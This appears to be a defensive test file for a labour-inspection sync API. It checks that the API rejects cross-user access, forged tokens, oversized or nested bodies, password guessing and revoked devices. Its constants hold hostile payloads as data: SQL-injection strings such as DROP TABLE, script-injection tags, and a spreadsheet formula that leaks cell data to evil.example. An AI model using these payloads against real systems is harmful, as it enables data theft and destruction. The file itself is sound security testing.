/**
 * The obvious attacks, tried against the real routes on both databases: someone else's visits,
 * forged tokens, SQL and script injection, spreadsheet formulas, oversized and malformed bodies,
 * password guessing, and a phone or inspector the fund has revoked.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import { PROTOCOL_VERSION } from '../../src/protocol';
import { MAX_BODY_BYTES } from '../../src/server/app';
import { CLIENT_HEADER } from '../../src/server/auth/revocation';
import { hashToken } from '../../src/server/auth/sessions';
import { forEachDatabase } from './helpers/databases';
import { envelopes, onsiteWorker } from './helpers/fixtures';
import { call, tokenFor } from './helpers/http';
import { addInspector, EXTRA_PASSWORD } from './helpers/users';

const MINE = 'visit-2026-0101';
const THEIRS = 'visit-2026-0105';
const LOTUS_VISIT = 'visit-2026-0104';
const SQL = ["'; DROP TABLE users; --", "' OR '1'='1", '1; DELETE FROM visits', "\\'; DROP TABLE visits; --"];
const SCRIPT = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'];
const FORMULA = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];

forEachDatabase('attacks', (t) => {
  const sup = () => tokenFor(t.app, 'supervisor.demo');
  const demo = () => tokenFor(t.app, 'inspector.demo');
  const push = async (token: string, visitId: string, items: Array<{ type: string; payload: unknown }>, clientId = randomUUID()) =>
    call(t.app, 'POST', '/api/sync/push', { token, json: { protocolVersion: PROTOCOL_VERSION, clientId, mutations: envelopes(visitId, items) } });
  const count = async (table: string) => Number((await t.db.query<{ n: number }>(`SELECT count(*) AS n FROM ${table}`))[0].n);
  const expectTablesIntact = async () => {
    expect(await count('users')).toBeGreaterThanOrEqual(3);
    expect(await count('visits')).toBeGreaterThanOrEqual(5);
    expect(await count('registered_workers')).toBeGreaterThan(0);
  };

  it("answers another inspector's visit as not found, on every route an inspector has", async () => {
    expect((await call(t.app, 'GET', `/api/visits/${THEIRS}`, { token: await demo() })).status).toBe(404);
    const listed = (await call(t.app, 'GET', '/api/visits', { token: await demo() })).body.visits.map((v: { id: string }) => v.id);
    expect(listed).not.toContain(THEIRS);

    const pushed = await push(await demo(), THEIRS, [{ type: 'tally.set', payload: { count: 999 } }]);
    expect(pushed.body.results).toEqual([{ id: 1, status: 'rejected', reason: 'not your visit' }]);
    expect(await t.db.query('SELECT 1 FROM tallies WHERE visit_id = $1', [THEIRS])).toEqual([]);

    // inspector.two describes a photo of their visit; inspector.demo tries to fill in its bytes.
    const photo = { id: randomUUID(), visitId: THEIRS, noticeId: null, takenAt: '2026-11-25T09:00:00.000Z', latitude: null, longitude: null, accuracyM: null, mime: 'image/jpeg', bytes: 4, caption: '' };
    expect((await push(await tokenFor(t.app, 'inspector.two'), THEIRS, [{ type: 'photo.add', payload: { photo } }])).body.results[0].status).toBe('applied');
    const put = await t.app.request(`/api/photos/${photo.id}`, { method: 'PUT', headers: { authorization: `Bearer ${await demo()}` }, body: Buffer.from([1, 2, 3, 4]) });
    expect(put.status).toBe(404);
    expect(await t.db.query('SELECT 1 FROM photos WHERE id = $1 AND data IS NOT NULL', [photo.id])).toEqual([]);
  });

  it('keeps every supervisor route from an inspector with 403, and changes nothing', async () => {
    const routes: Array<[string, string, unknown?]> = [
      ['GET', '/api/supervisor/visits'],
      ['GET', `/api/supervisor/visits/${THEIRS}`],
      ['POST', '/api/supervisor/visits', { employerId: 'emp-lotus-hotel', inspectorUsername: 'inspector.demo', scheduledDate: '2026-12-01', reason: 'routine', complaint: null }],
      ['PATCH', `/api/supervisor/visits/${THEIRS}`, { status: 'withdrawn' }],
      ['POST', '/api/supervisor/import', {}],
      ['GET', '/api/supervisor/employers'],
      ['GET', '/api/supervisor/inspectors'],
      ['POST', '/api/supervisor/employers/emp-lotus-hotel/registry', 'worker_id\n1'],
      ['GET', '/api/supervisor/audit'],
      ['GET', '/api/supervisor/devices'],
      ['POST', `/api/supervisor/devices/${randomUUID()}/revoke`],
      ['POST', '/api/supervisor/inspectors/inspector.two/revoke'],
      ['POST', '/api/supervisor/inspectors/inspector.two/enable'],
      ['GET', '/api/penalty-schedule/versions'],
      ['POST', '/api/penalty-schedule', {}],
      ['GET', `/api/photos/${randomUUID()}`],
    ];
    for (const [method, path, body] of routes) {
      const res = await call(t.app, method, path, { token: await demo(), ...(typeof body === 'string' ? { body, contentType: 'text/csv' } : { json: body }) });
      expect({ method, path, status: res.status, error: res.body.error }).toEqual({ method, path, status: 403, error: 'forbidden' });
    }
    expect((await t.db.query<{ status: string }>('SELECT status FROM visits WHERE id = $1', [THEIRS]))[0].status).toBe('assigned');
    expect(await t.db.query(`SELECT 1 FROM users WHERE disabled_at IS NOT NULL`)).toEqual([]);
  });

  it('refuses tampered, forged, expired, signed-out and stolen-hash tokens with 401', async () => {
    const token = await demo();
    const fresh = (await call(t.app, 'POST', '/api/session', { json: { username: 'inspector.two', password: 'demo1234' } })).body.token as string;
    const signedOut = (await call(t.app, 'POST', '/api/session', { json: { username: 'inspector.two', password: 'demo1234' } })).body.token as string;
    await call(t.app, 'DELETE', '/api/session', { token: signedOut });
    await t.db.query(`UPDATE sessions SET expires_at = now() - interval '1 second' WHERE token_hash = $1`, [hashToken(fresh)]);
    const none = Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url');
    const bad = [
      token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A'),
      token + 'A',
      randomBytes(32).toString('base64url'),
      `${none}.${Buffer.from('{"sub":"supervisor.demo","role":"supervisor"}').toString('base64url')}.`,
      fresh,
      signedOut,
      hashToken(token),
      "'OR'1'='1",
    ];
    for (const forged of bad) {
      const res = await call(t.app, 'GET', '/api/supervisor/visits', { token: forged });
      expect(res.status).toBe(401);
      expect(res.body.error).toBe('unauthorized');
    }
    const malformed = await t.app.request('/api/me', { headers: { authorization: "Bearer ' OR '1'='1" } });
    expect(malformed.status).toBe(401);
  });

  it('treats SQL in a sign-in name, in URLs and in pushed names as plain text', async () => {
    for (const username of SQL) {
      const res = await call(t.app, 'POST', '/api/session', { json: { username, password: "' OR '1'='1" } });
      expect(res.status).toBe(401);
    }
    for (const id of SQL.map(encodeURIComponent)) {
      expect((await call(t.app, 'GET', `/api/visits/${id}`, { token: await demo() })).status).toBe(404);
      expect((await call(t.app, 'GET', `/api/supervisor/visits/${id}`, { token: await sup() })).status).toBe(404);
      expect((await call(t.app, 'PATCH', `/api/supervisor/visits/${id}`, { token: await sup(), json: { status: 'withdrawn' } })).status).toBe(404);
      expect((await call(t.app, 'PUT', `/api/photos/${id}`, { token: await demo(), body: 'x' })).status).toBe(404);
      expect((await call(t.app, 'POST', `/api/supervisor/employers/${id}/registry`, { token: await sup(), body: 'a', contentType: 'text/csv' })).status).toBe(404);
      expect((await call(t.app, 'GET', `/api/sync/pull?since=${id}`, { token: await demo() })).status).toBe(400);
    }
    const workers = [...SQL, ...SCRIPT].map((name) => onsiteWorker(MINE, { name }));
    const res = await push(await demo(), MINE, workers.map((worker) => ({ type: 'onsite.upsert', payload: { worker } })));
    expect(res.body.results.every((r: { status: string }) => r.status === 'applied')).toBe(true);
    const stored = await t.db.query<{ name: string }>(`SELECT data->>'name' AS name FROM onsite_workers WHERE id = ANY($1::uuid[])`, [workers.map((w) => w.id)]);
    expect(stored.map((r) => r.name).sort()).toEqual([...SQL, ...SCRIPT].sort());
    await expectTablesIntact();
  });

  it('serves injected script only as JSON text, never as a page', async () => {
    const res = await t.app.request(`/api/supervisor/visits/${MINE}`, { headers: { authorization: `Bearer ${await sup()}` } });
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toContain("script-src 'self'");
    const names = ((await res.json()).onsite as Array<{ name: string }>).map((w) => w.name);
    expect(names).toEqual(expect.arrayContaining(SCRIPT));
    // Even an error that echoes the path is JSON.
    const echo = await t.app.request(`/api/${encodeURIComponent(SCRIPT[0])}`);
    expect(echo.headers.get('content-type')).toMatch(/^application\/json/);
  });

  it('stores SQL, script and spreadsheet formulas in register CSV cells verbatim', async () => {
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const cells = [...SQL, ...SCRIPT, ...FORMULA];
    const csv = ['worker_id,nssf_number,national_id,name_kh,name_latin,sex,date_of_birth,hire_date']
      .concat(cells.map((cell, i) => `X-${i},,,${quote(cell)},${quote(cell)},F,1990-01-01,`))
      .join('\r\n');
    const res = await call(t.app, 'POST', '/api/supervisor/employers/emp-lotus-hotel/registry', { token: await sup(), body: csv, contentType: 'text/csv' });
    expect(res.status).toBe(200);
    expect(res.body.imported).toBe(cells.length);
    const rows = await t.db.query<{ name_kh: string; name_latin: string }>(
      `SELECT name_kh, name_latin FROM registered_workers WHERE employer_id = 'emp-lotus-hotel' ORDER BY worker_id`,
    );
    expect(rows.map((r) => r.name_latin).sort()).toEqual([...cells].sort());
    expect(rows.every((r) => r.name_kh === r.name_latin)).toBe(true);
    const pkg = await call(t.app, 'GET', `/api/visits/${LOTUS_VISIT}`, { token: await demo() });
    expect(pkg.headers.get('content-type')).toMatch(/^application\/json/);
    expect(pkg.body.registered.map((w: { nameLatin: string }) => w.nameLatin).sort()).toEqual([...cells].sort());
    await expectTablesIntact();
  });

  it('refuses bodies over the limit with 413 before reading them into a route', async () => {
    const huge = 'x'.repeat(MAX_BODY_BYTES + 1);
    const signIn = await call(t.app, 'POST', '/api/session', { body: huge, contentType: 'application/json' });
    const pushed = await call(t.app, 'POST', '/api/sync/push', { token: await demo(), body: huge, contentType: 'application/json' });
    const csv = await call(t.app, 'POST', '/api/supervisor/employers/emp-lotus-hotel/registry', { token: await sup(), body: huge, contentType: 'text/csv' });
    for (const res of [signIn, pushed, csv]) expect([res.status, res.body.error]).toEqual([413, 'payload_too_large']);

    const photo = { id: randomUUID(), visitId: MINE, noticeId: null, takenAt: '2026-11-25T09:00:00.000Z', latitude: null, longitude: null, accuracyM: null, mime: 'image/jpeg', bytes: 10, caption: '' };
    await push(await demo(), MINE, [{ type: 'photo.add', payload: { photo } }]);
    const bigPhoto = await t.app.request(`/api/photos/${photo.id}`, { method: 'PUT', headers: { authorization: `Bearer ${await demo()}` }, body: Buffer.alloc(3 * 1024 * 1024) });
    expect(bigPhoto.status).toBe(413);
  });

  it('answers deeply nested or wrongly typed JSON with 400 and the issues, and NUL in a name with 400', async () => {
    const deep = '['.repeat(50_000) + ']'.repeat(50_000);
    const nested = await call(t.app, 'POST', '/api/session', { body: deep, contentType: 'application/json' });
    expect([nested.status, nested.body.error]).toEqual([400, 'invalid_request']);
    expect(Array.isArray(nested.body.issues)).toBe(true);

    const inField = await call(t.app, 'POST', '/api/session', { body: `{"username":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)},"password":"x"}`, contentType: 'application/json' });
    expect(inField.status).toBe(400);
    expect(inField.body.issues[0].path).toEqual(['username']);

    const types = await call(t.app, 'POST', '/api/session', { json: { username: 123, password: ['demo1234'] } });
    expect(types.status).toBe(400);
    expect(types.body.issues.map((i: { path: string[] }) => i.path[0]).sort()).toEqual(['password', 'username']);

    const badPush = await call(t.app, 'POST', '/api/sync/push', { token: await demo(), json: { protocolVersion: PROTOCOL_VERSION, clientId: "'; DROP TABLE users; --", mutations: 'all' } });
    expect(badPush.status).toBe(400);
    expect(badPush.body.issues.map((i: { path: string[] }) => i.path[0])).toEqual(expect.arrayContaining(['clientId', 'mutations']));

    const deepPayload = await push(await demo(), MINE, [{ type: 'tally.set', payload: JSON.parse('{"count":' + '{"a":'.repeat(2000) + '1' + '}'.repeat(2001)) }]);
    expect(deepPayload.body.results[0]).toMatchObject({ status: 'rejected' });

    const nul = await call(t.app, 'POST', '/api/session', { json: { username: 'inspector.demo\u0000', password: 'demo1234' } });
    expect(nul.status).toBe(400);

    const proto = await call(t.app, 'POST', '/api/session', { body: '{"username":"x","password":"y","__proto__":{"polluted":true}}', contentType: 'application/json' });
    expect(proto.status).toBe(401);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('answers the sixth wrong password in a row with 429 and Retry-After, even with the right one', async () => {
    await addInspector(t.db, 'attack.guessed');
    for (let i = 0; i < 5; i++) {
      expect((await call(t.app, 'POST', '/api/session', { json: { username: 'attack.guessed', password: `guess-${i}` } })).status).toBe(401);
    }
    const blocked = await call(t.app, 'POST', '/api/session', { json: { username: 'attack.guessed', password: EXTRA_PASSWORD } });
    expect(blocked.status).toBe(429);
    expect(blocked.body.error).toBe('too_many_attempts');
    expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(800);
  });

  it('answers a revoked phone with 401 revoked, and a disabled inspector with 403', async () => {
    await addInspector(t.db, 'attack.lost-phone');
    await addInspector(t.db, 'attack.dismissed');
    const phone = randomUUID();
    const signIn = await call(t.app, 'POST', '/api/session', { json: { username: 'attack.lost-phone', password: EXTRA_PASSWORD }, headers: { [CLIENT_HEADER]: phone } });
    expect((await call(t.app, 'POST', `/api/supervisor/devices/${phone}/revoke`, { token: await sup() })).status).toBe(200);
    const next = await call(t.app, 'GET', '/api/visits', { token: signIn.body.token, headers: { [CLIENT_HEADER]: phone } });
    expect([next.status, next.body.error]).toEqual([401, 'revoked']);

    const token = (await call(t.app, 'POST', '/api/session', { json: { username: 'attack.dismissed', password: EXTRA_PASSWORD } })).body.token;
    expect((await call(t.app, 'POST', '/api/supervisor/inspectors/attack.dismissed/revoke', { token: await sup() })).status).toBe(200);
    expect((await call(t.app, 'GET', '/api/visits', { token })).body.error).toBe('revoked');
    const again = await call(t.app, 'POST', '/api/session', { json: { username: 'attack.dismissed', password: EXTRA_PASSWORD } });
    expect([again.status, again.body.error]).toEqual([403, 'account_disabled']);
  });
});
